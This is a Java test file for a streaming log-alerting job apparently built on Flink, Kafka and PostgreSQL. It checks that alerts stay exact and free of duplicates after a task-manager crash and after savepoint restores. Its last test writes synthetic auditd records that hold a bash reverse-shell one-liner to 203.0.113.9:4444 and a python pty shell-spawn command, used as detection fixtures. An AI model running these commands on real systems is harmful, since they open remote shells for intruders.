package dev.vigil.flink;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.flink.JobHarness.Figures;
import dev.vigil.store.AlertQuery;
import dev.vigil.store.PostgresServer;
import dev.vigil.store.PostgresAlertStore;
import dev.vigil.store.StoredAlert;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.apache.flink.api.common.JobStatus;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.RestartStrategyOptions;
import org.apache.flink.configuration.StateRecoveryOptions;
import org.apache.flink.core.execution.JobClient;
import org.apache.flink.core.execution.SavepointFormatType;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.OffsetSpec;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.OffsetAndMetadata;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The job stopped mid-stream and restored: once by losing its task manager (Flink restores the
 * last checkpoint), once stopped with a savepoint and started again from it. The final alerts are
 * {@code vigil scan}'s, the alert topic read committed holds no version of an alert twice, and
 * PostgreSQL holds each alert once with the scan's count.
 */
class RecoveryTest {
    static final int LINES = 60_000;
    static JobHarness h;
    static List<String> lines;
    static Map<String, Figures> scan;
    @TempDir
    static Path dir;

    @BeforeAll
    static void start() throws Exception {
        h = JobHarness.start(2);
        lines = Traffic.lines(3, LINES);
        Path log = dir.resolve("access.log");
        Files.write(log, lines, StandardCharsets.UTF_8);
        scan = JobHarness.scan(List.of(log));
        assertThat(scan.values()).extracting(Figures::type).contains("SqlInjectionAttempt", "PathTraversalAttempt",
                "BruteForce");
    }

    @AfterAll
    static void stop() throws Exception {
        if (h != null) {
            h.close();
        }
    }

    private static void produce(String topic) throws Exception {
        h.createTopic(topic, 2);
        List<ProducerRecord<byte[], byte[]>> records = new java.util.ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            ProducerRecord<byte[], byte[]> e = JobHarness.envelope(topic, "access.log", i + 1, "combined", lines.get(i));
            records.add(new ProducerRecord<>(topic, i % 2, e.key(), e.value()));
        }
        h.produce(records);
    }

    private static StreamExecutionEnvironment job(String name, Configuration conf, String postgres) {
        return job(name, conf, postgres, true);
    }

    private static StreamExecutionEnvironment job(String name, Configuration conf, String postgres, boolean bounded) {
        conf.set(RestartStrategyOptions.RESTART_STRATEGY, "fixed-delay");
        conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_ATTEMPTS, 5);
        conf.set(RestartStrategyOptions.RESTART_STRATEGY_FIXED_DELAY_DELAY, Duration.ofMillis(200));
        StreamExecutionEnvironment env = h.env(2, conf);
        env.enableCheckpointing(300);
        VigilJob.builder().bootstrapServers(h.servers()).topics("vigil\\.logs\\." + name + "()").groupId(name)
                .bounded(bounded).outOfOrderness(Duration.ofSeconds(5)).alertTopic("alerts-" + name)
                .transactionalIdPrefix("tx-" + name).postgres(postgres).build().addTo(env);
        return env;
    }

    /** Waits until some alerts are committed (a checkpoint completed) while the job still runs. */
    private static int awaitFirstAlerts(JobClient job, String topic) throws Exception {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(120);
        while (System.nanoTime() < deadline) {
            int n = h.readCommitted(topic).size();
            if (n > 0) {
                assertThat(job.getJobStatus().get()).as("the job is still running: stopped mid-stream")
                        .isEqualTo(JobStatus.RUNNING);
                return n;
            }
            Thread.sleep(100);
        }
        throw new AssertionError("no alert was committed in two minutes");
    }

    /**
     * Lets a job restored from a savepoint read its topic to the end, then drains it (stop with a
     * savepoint, event time advanced to the end: the last windows close, the last alerts go out).
     * A bounded Kafka source restored from a savepoint was seen not to end by itself here
     * (flink-connector-kafka 5.0.0-2.2), so the test does not wait for it to.
     */
    static void finish(JobClient job, String group, String topic) throws Exception {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(180);
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", h.servers()))) {
            while (System.nanoTime() < deadline && !job.getJobStatus().get().isGloballyTerminalState()) {
                Map<TopicPartition, OffsetAndMetadata> done = admin.listConsumerGroupOffsets(group)
                        .partitionsToOffsetAndMetadata().get();
                Map<TopicPartition, OffsetSpec> want = new HashMap<>();
                for (int p = 0; p < 2; p++) {
                    want.put(new TopicPartition(topic, p), OffsetSpec.latest());
                }
                var end = admin.listOffsets(want).all().get();
                boolean all = end.entrySet().stream().allMatch(e -> done.get(e.getKey()) != null
                        && done.get(e.getKey()).offset() >= e.getValue().offset());
                if (all) {
                    break;
                }
                Thread.sleep(200);
            }
        }
        if (!job.getJobStatus().get().isGloballyTerminalState()) {
            job.stopWithSavepoint(true, dir.resolve("drained").toUri().toString(), SavepointFormatType.CANONICAL)
                    .get(120, TimeUnit.SECONDS);
        }
        job.getJobExecutionResult().get(120, TimeUnit.SECONDS);
    }

    /** Each alert's versions in the topic: counts rising, none twice (a replayed update would repeat one). */
    private static void assertNoDuplicates(List<ConsumerRecord<byte[], byte[]>> records) throws Exception {
        Map<String, Long> last = new HashMap<>();
        for (ConsumerRecord<byte[], byte[]> r : records) {
            Figures f = JobHarness.figuresOfJson(JobHarness.JSON.readTree(r.value()));
            String id = new String(r.key(), StandardCharsets.UTF_8);
            Long before = last.put(id, f.count());
            assertThat(before == null || before < f.count()).as("alert " + id + " went from " + before + " to "
                    + f.count()).isTrue();
        }
    }

    private static Map<String, Figures> stored(String url) {
        Map<String, Figures> out = new TreeMap<>();
        try (PostgresAlertStore store = PostgresAlertStore.open(url)) {
            for (StoredAlert a : store.list(AlertQuery.all())) {
                assertThat(out.put(a.alert().id(), Figures.of(a.alert()))).isNull();
            }
        }
        return out;
    }

    @Test
    void aJobThatLosesItsTaskManagerRestoresItsLastCheckpoint() throws Exception {
        produce("vigil.logs.crash");
        h.createTopic("alerts-crash", 2);
        String db = PostgresServer.freshDatabase();
        JobClient job = job("crash", new Configuration(), db).executeAsync("crash");
        int before = awaitFirstAlerts(job, "alerts-crash");
        h.flink.terminateTaskManager(0).get();
        h.flink.startTaskManager();
        job.getJobExecutionResult().get(180, TimeUnit.SECONDS);
        List<ConsumerRecord<byte[], byte[]>> out = h.readCommitted("alerts-crash");
        assertThat(out.size()).isGreaterThan(before);
        assertNoDuplicates(out);
        assertThat(JobHarness.latest(out)).isEqualTo(scan);
        assertThat(stored(db)).isEqualTo(scan);
    }

    @Test
    void aJobStoppedWithASavepointContinuesFromIt() throws Exception {
        produce("vigil.logs.savepoint");
        h.createTopic("alerts-savepoint", 2);
        String db = PostgresServer.freshDatabase();
        JobClient first = job("savepoint", new Configuration(), db).executeAsync("savepoint-1");
        int before = awaitFirstAlerts(first, "alerts-savepoint");
        String savepoint = first.stopWithSavepoint(false, dir.resolve("savepoints").toUri().toString(),
                SavepointFormatType.CANONICAL).get(120, TimeUnit.SECONDS);
        int atStop = h.readCommitted("alerts-savepoint").size();
        assertThat(atStop).isGreaterThanOrEqualTo(before);
        Configuration restore = new Configuration();
        restore.set(StateRecoveryOptions.SAVEPOINT_PATH, savepoint);
        finish(job("savepoint", restore, db).executeAsync("savepoint-2"), "savepoint", "vigil.logs.savepoint");
        List<ConsumerRecord<byte[], byte[]>> out = h.readCommitted("alerts-savepoint");
        assertThat(out.size()).isGreaterThan(atStop);
        assertNoDuplicates(out);
        assertThat(JobHarness.latest(out)).isEqualTo(scan);
        assertThat(stored(db)).isEqualTo(scan);
    }

    /** Waits until the job's consumer group has committed the end of {@code topic} (a checkpoint took it all in). */
    private static void awaitCaughtUp(String group, String topic, int partitions) throws Exception {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(120);
        try (Admin admin = Admin.create(Map.of("bootstrap.servers", h.servers()))) {
            while (System.nanoTime() < deadline) {
                Map<TopicPartition, OffsetAndMetadata> done = admin.listConsumerGroupOffsets(group)
                        .partitionsToOffsetAndMetadata().get();
                Map<TopicPartition, OffsetSpec> want = new HashMap<>();
                for (int p = 0; p < partitions; p++) {
                    want.put(new TopicPartition(topic, p), OffsetSpec.latest());
                }
                var end = admin.listOffsets(want).all().get();
                if (end.entrySet().stream().allMatch(e -> done.get(e.getKey()) != null
                        && done.get(e.getKey()).offset() >= e.getValue().offset())) {
                    return;
                }
                Thread.sleep(100);
            }
        }
        throw new AssertionError("the job did not take in " + topic + " in two minutes");
    }

    private static String hex(String s) {
        StringBuilder b = new StringBuilder();
        for (byte x : s.getBytes(StandardCharsets.UTF_8)) {
            b.append(String.format("%02X", x));
        }
        return b.toString();
    }

    /** An execve seen by auditd, record by record, as one audit event (ending with its EOE). */
    static List<String> auditRecord(long seconds, int serial, int pid, String exe, String... argv) {
        String key = "msg=audit(" + seconds + ".000:" + serial + "): ";
        StringBuilder execve = new StringBuilder("type=EXECVE " + key + "argc=" + argv.length);
        for (int i = 0; i < argv.length; i++) {
            execve.append(" a").append(i).append('=').append(hex(argv[i]));
        }
        return List.of("type=SYSCALL " + key + "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=900 pid=" + pid
                        + " auid=4294967295 uid=33 gid=33 euid=33 tty=(none) ses=4294967295 comm=\"" + argv[0]
                        + "\" exe=\"" + exe + "\" key=\"exec\"",
                execve.toString(),
                "type=CWD " + key + "cwd=\"/var/www/html\"",
                "type=PROCTITLE " + key + "proctitle=" + hex(String.join("\u0000", argv)),
                "type=EOE " + key);
    }

    /**
     * The job stopped with a savepoint right after a W3C log's {@code #Fields:} header and before the
     * lines it governs, and in the middle of an auditd record (SYSCALL and EXECVE read, CWD,
     * PROCTITLE and EOE not yet), then restored: the parser state came back with each partition's
     * offset, so the lines after the cut are read as a scan reads them and the alerts are a scan's.
     */
    @Test
    void parserStateSurvivesARestoreBetweenAW3cHeaderAndItsLinesAndInsideAnAuditdRecord() throws Exception {
        // the sample IIS log with the client address moved to the front: only its #Fields: header tells
        // (a W3C parser that lost the header would take the IIS default order and misread every line)
        List<String> w3c = new java.util.ArrayList<>();
        for (String l : Files.readAllLines(Path.of("..", "samples", "iis", "u_ex261115.log"), StandardCharsets.UTF_8)) {
            boolean fields = l.startsWith("#Fields: ");
            if (l.startsWith("#") && !fields) {
                w3c.add(l);
                continue;
            }
            List<String> cols = new java.util.ArrayList<>(List.of((fields ? l.substring(9) : l).split(" ")));
            int ip = 8; // c-ip in the sample's header
            if (cols.size() > ip) {
                cols.add(0, cols.remove(ip));
            }
            w3c.add((fields ? "#Fields: " : "") + String.join(" ", cols));
        }
        assertThat(w3c.stream().filter(l -> l.startsWith("#Fields: c-ip date time"))).isNotEmpty();
        int w3cCut = 0;
        while (!w3c.get(w3cCut).startsWith("#Fields:")) {
            w3cCut++;
        }
        w3cCut++; // the header read, none of its lines
        List<String> audit = new java.util.ArrayList<>(auditRecord(1_700_000_000L, 10, 4240, "/usr/bin/id", "id", "-a"));
        int auditCut = audit.size() + 2; // SYSCALL and EXECVE of the next record read, the rest not
        audit.addAll(auditRecord(1_700_000_001L, 11, 4241, "/usr/bin/bash", "bash", "-c",
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
        audit.addAll(auditRecord(1_700_000_002L, 12, 4242, "/usr/bin/python3", "python3", "-c",
                "import pty;pty.spawn(\"/bin/sh\")"));
        Path iis = dir.resolve("u_ex261115.log");
        Path auditLog = dir.resolve("audit.log");
        Files.write(iis, w3c, StandardCharsets.UTF_8);
        Files.write(auditLog, audit, StandardCharsets.UTF_8);
        Map<String, Figures> expected = JobHarness.scan(List.of(iis, auditLog));
        assertThat(JobHarness.scan(List.of(auditLog))).as("alerts from the auditd record cut in two").isNotEmpty();

        String topic = "vigil.logs.parserstate";
        h.createTopic(topic, 2);
        h.createTopic("alerts-parserstate", 2);
        java.util.function.BiFunction<Integer, Integer, List<ProducerRecord<byte[], byte[]>>> part = (from, to) -> {
            List<ProducerRecord<byte[], byte[]>> out = new java.util.ArrayList<>();
            for (int i = from; i < Math.min(to, w3c.size()); i++) {
                ProducerRecord<byte[], byte[]> e = JobHarness.envelope(topic, iis.toString(), i + 1, "w3c", w3c.get(i));
                out.add(new ProducerRecord<>(topic, 0, e.key(), e.value()));
            }
            return out;
        };
        java.util.function.BiFunction<Integer, Integer, List<ProducerRecord<byte[], byte[]>>> auditPart = (from, to) -> {
            List<ProducerRecord<byte[], byte[]>> out = new java.util.ArrayList<>();
            for (int i = from; i < Math.min(to, audit.size()); i++) {
                ProducerRecord<byte[], byte[]> e = JobHarness.envelope(topic, auditLog.toString(), i + 1, "auditd",
                        audit.get(i));
                out.add(new ProducerRecord<>(topic, 1, e.key(), e.value()));
            }
            return out;
        };
        List<ProducerRecord<byte[], byte[]>> first = new java.util.ArrayList<>(part.apply(0, w3cCut));
        first.addAll(auditPart.apply(0, auditCut));
        h.produce(first);
        JobClient job = job("parserstate", new Configuration(), null, false).executeAsync("parserstate-1");
        awaitCaughtUp("parserstate", topic, 2);
        String savepoint = job.stopWithSavepoint(false, dir.resolve("savepoints-parser").toUri().toString(),
                SavepointFormatType.CANONICAL).get(120, TimeUnit.SECONDS);

        List<ProducerRecord<byte[], byte[]>> rest = new java.util.ArrayList<>(part.apply(w3cCut, Integer.MAX_VALUE));
        rest.addAll(auditPart.apply(auditCut, Integer.MAX_VALUE));
        h.produce(rest);
        Configuration restore = new Configuration();
        restore.set(StateRecoveryOptions.SAVEPOINT_PATH, savepoint);
        finish(job("parserstate", restore, null, false).executeAsync("parserstate-2"), "parserstate", topic);
        assertThat(JobHarness.latest(h.readCommitted("alerts-parserstate"))).isEqualTo(expected);
    }
}
